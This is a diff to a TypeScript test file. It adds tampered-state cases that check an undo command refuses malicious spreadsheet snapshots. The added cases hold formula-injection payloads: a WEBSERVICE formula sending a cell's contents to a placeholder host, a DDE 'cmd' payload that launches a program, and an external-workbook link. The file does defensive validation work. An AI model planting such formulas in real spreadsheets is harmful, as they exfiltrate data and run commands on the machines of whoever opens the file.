@@ -56,6 +56,9 @@ describe("a tampered state", () => {
     ["ZZZ1", (d: any) => (d.lastRun.segments[0].a = "ZZZ1")],
     ["A1048577", (d: any) => (d.lastRun.segments[0].a = "A1048577")],
     ["a formula snapshot", (d: any) => (d.lastRun.segments[0].s = d.lastRun.segments[0].v.map(() => [{ formula: 'WEBSERVICE("http://x")' }, "General", 0]))],
+    ["a WEBSERVICE formula snapshot", (d: any) => (d.lastRun.segments[0].s = d.lastRun.segments[0].v.map(() => ['=WEBSERVICE("http://x/?"&A1)', "General", 0]))],
+    ["a DDE formula snapshot", (d: any) => (d.lastRun.segments[0].s = d.lastRun.segments[0].v.map(() => ["=cmd|' /C calc'!A0", "General", 0]))],
+    ["an external workbook in a snapshot", (d: any) => (d.lastRun.segments[0].s = d.lastRun.segments[0].v.map(() => ["='http://x/[a.xlsx]S'!A1", "General", 0]))],
     ["2,000,000 cells", (d: any) => (d.lastRun.segments[0].v = new Array(2_000_000).fill(null))],
   ])("(%s): undo refuses and writes nothing; score --profile and score still work", async (_, change) => {
     const file = await withState(tampered(change));
